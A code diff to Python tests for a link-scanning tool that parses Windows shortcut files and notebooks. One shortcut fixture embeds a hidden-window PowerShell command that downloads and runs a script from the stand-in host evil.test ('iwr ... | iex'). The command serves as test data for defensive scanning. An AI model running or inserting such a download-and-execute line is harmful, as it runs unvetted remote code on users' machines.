@@ -48,7 +48,7 @@ def linked(octets: bytes, name: str | None = None) -> list[tuple[str | None, str
 
 def test_a_shortcut_is_read() -> None:
     octets = shortcut(
-        '-w hidden iwr "http://evil.test/x" | iex', r"\\icon.test\s\a.ico", r"\\share.test\d"
+        "-w hidden iwr http://evil.test/x|iex", r"\\icon.test\s\a.ico", r"\\share.test\d"
     )
     document = uriinspector.scan(octets)
     assert document.kind == "lnk"
@@ -58,7 +58,7 @@ def test_a_shortcut_is_read() -> None:
         ("icon", r"\\icon.test\s\a.ico"),
     ]
     (told,) = document.not_examined
-    assert told.reason.endswith('-w hidden iwr "http://evil.test/x" | iex')
+    assert told.reason.endswith("-w hidden iwr http://evil.test/x|iex")
     source = document.links[0].source
     assert octets[source.start : source.end] == rb"\\share.test\d"
 
@@ -141,3 +141,11 @@ def test_a_notebook_is_read() -> None:
     assert [each.name for each in two.parts[1:]] == [None, None]
     broken = uriinspector.scan(ONE + EMBEDDED + b"\xff" * 40)
     assert len(broken.parts) == 1
+
+
+def test_a_packaged_notebook_says_what_was_not_looked_into() -> None:
+    form = bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7")
+    names = b'<x xmlns:a="http://ns.test/a" b="http://b.test/">'
+    document = uriinspector.scan(ONE + bytes(32) + form + names)
+    assert [link.value for link in document.links] == ["http://b.test/"]
+    assert "of this form" in document.not_examined[0].reason
